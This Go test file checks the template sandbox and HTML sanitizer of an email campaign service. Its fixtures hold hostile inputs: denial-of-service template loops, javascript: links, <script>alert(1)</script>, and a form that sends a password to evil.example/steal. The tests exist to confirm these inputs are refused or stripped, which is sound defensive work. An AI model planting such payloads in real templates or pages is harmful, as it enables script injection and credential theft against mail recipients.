package campaign

import (
	"strings"
	"testing"
	"time"

	"github.com/envoi/envoi/internal/apperr"
	"github.com/envoi/envoi/internal/model"
)

// TestSandbox (issue 9, section 3): what a template may hold. The attacks seen
// (a loop of huge printf output, a loop that never ends, a javascript: URL
// built from a literal) are refused at save, fast, naming line and column.
func TestSandbox(t *testing.T) {
	layout := "<html><body>{{.Content}}<p>{{.Org}}</p><a href=\"{{.UnsubscribeURL}}\">x</a></body></html>"
	tests := []struct {
		name, field, body, want string // want: "" accepted, else part of the message
	}{
		{"FieldsIfElseWith", "body", "Hi {{with .Subscriber.Name}}{{.}}{{else}}there{{end}}{{if .List.Name}} of {{.List.Name}}{{end}}", ""},
		{"ErrRangePrintf", "body", `{{range 200}}{{printf "%1000000s" ""}}{{end}}`, "Line 1, column 8: {{range}}"},
		{"ErrEndlessRange", "body", "Hello\n{{range 1000000000000}}{{end}}", "Line 2, column 8: {{range}}"},
		{"ErrJavascriptFromLiteral", "body", `<a href="javascript{{":"}}alert(1)">x</a>`, "a literal"},
		{"ErrFunction", "body", `{{len .Subscriber.Name}}`, "function call"},
		{"ErrPipe", "body", `{{.Subscriber.Name | html}}`, "pipe"},
		{"ErrBareFunction", "subject", `{{now}}`, "subject:1: function \"now\" not defined"},
		{"ErrBuiltinFunction", "subject", `{{print .Subscriber.Name}}`, "function call"},
		{"ErrVariable", "body", `{{$x := .Subscriber.Name}}{{$x}}`, "variable"},
		{"ErrDefine", "body", `{{define "x"}}y{{end}}{{template "x"}}`, "define"},
		{"ErrTextBodyLoop", "text_body", "a\nb\n  {{range .Subscriber.Name}}x{{end}}", "Line 3, column 10: {{range}}"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := model.Campaign{Name: "n", Subject: "s", From: "News <news@example.com>", Format: "html", Body: "b"}
			switch tt.field {
			case "body":
				c.Body = tt.body
			case "subject":
				c.Subject = tt.body
			case "text_body":
				c.TextBody = tt.body
			}
			start := time.Now()
			_, err := Compile(c, layout, LayoutFields{Org: "Org"})
			if d := time.Since(start); d > time.Second {
				t.Fatalf("took %v", d)
			}
			if tt.want == "" {
				if err != nil {
					t.Fatalf("refused: %v", err)
				}
				return
			}
			e, ok := apperr.As(err)
			if !ok || e.Code != apperr.Invalid || e.Field != tt.field || !strings.Contains(e.Message, tt.want) {
				t.Fatalf("err = %v, want invalid on %s saying %q", err, tt.field, tt.want)
			}
		})
	}
	t.Run("ErrLayoutLoop", func(t *testing.T) {
		err := CheckLayout("<html><body>{{.Content}}{{range .Org}}x{{end}}</body></html>")
		if e, ok := apperr.As(err); !ok || e.Field != "html" || !strings.Contains(e.Message, "{{range}}") {
			t.Fatalf("err = %v", err)
		}
	})
}

// TestMarkdownTextPart (issue 9, section 7): the text part of a Markdown
// campaign reads as plain prose: no asterisks around bold words, no lines
// holding only a quote marker.
func TestMarkdownTextPart(t *testing.T) {
	c := model.Campaign{Name: "n", Subject: "s", From: "News <news@example.com>", Format: "markdown",
		Body: "**Newsletter**: the week in *short*.\n\n> A quote\n>\n> on two paragraphs.\n\nBye."}
	cc, err := Compile(c, "<html><body>{{.Content}}<a href=\"{{.UnsubscribeURL}}\">u</a></body></html>", LayoutFields{Org: "Org"})
	if err != nil {
		t.Fatal(err)
	}
	_, _, text, err := cc.Render(sample, LayoutFields{Org: "Org"})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(text, "Newsletter: the week in short.") || strings.Contains(text, "*") {
		t.Errorf("emphasis in the text part:\n%s", text)
	}
	for _, line := range strings.Split(text, "\n") {
		if strings.Trim(line, "> \t") == "" && strings.Contains(line, ">") {
			t.Errorf("a line with only a quote marker: %q in\n%s", line, text)
		}
	}
	if !strings.Contains(text, "A quote") || !strings.Contains(text, "on two paragraphs.") {
		t.Errorf("the quote was lost:\n%s", text)
	}
}

// TestLayoutSanitized (issue 9, section 3): a marketer's layout is sanitized
// like a body: no script, form, frame, javascript: link or unsafe CSS reaches
// the mail, and the layout's own fields and inlined CSS still work.
func TestLayoutSanitized(t *testing.T) {
	layout := `<html><head><style>p.brand { color: #c00; }</style></head><body>
<script>alert(1)</script><form action="https://evil.example/steal"><input name="password"></form>
<iframe src="https://evil.example"></iframe><a href="javascript:alert(1)">click</a>
<p class="brand" style="position:fixed;top:0;font-size:13px">Brand</p>{{.Content}}
<a href="{{.UnsubscribeURL}}">Unsubscribe</a></body></html>`
	if err := CheckLayout(layout); err != nil {
		t.Fatal(err)
	}
	c := model.Campaign{Name: "n", Subject: "s", From: "News <news@example.com>", Format: "html", Body: "<p>Body</p>", Template: "custom"}
	cc, err := Compile(c, layout, LayoutFields{Org: "Org"})
	if err != nil {
		t.Fatal(err)
	}
	_, html, _, err := cc.Render(sample, LayoutFields{Org: "Org"})
	if err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{"<script", "alert(1)", "<form", "<input", "<iframe", "javascript:", "position"} {
		if strings.Contains(html, bad) {
			t.Errorf("%q reached the mail:\n%s", bad, html)
		}
	}
	for _, good := range []string{"Body", "font-size: 13px", "color: #c00", sample.UnsubscribeURL} {
		if !strings.Contains(html, good) {
			t.Errorf("%q lost:\n%s", good, html)
		}
	}
}
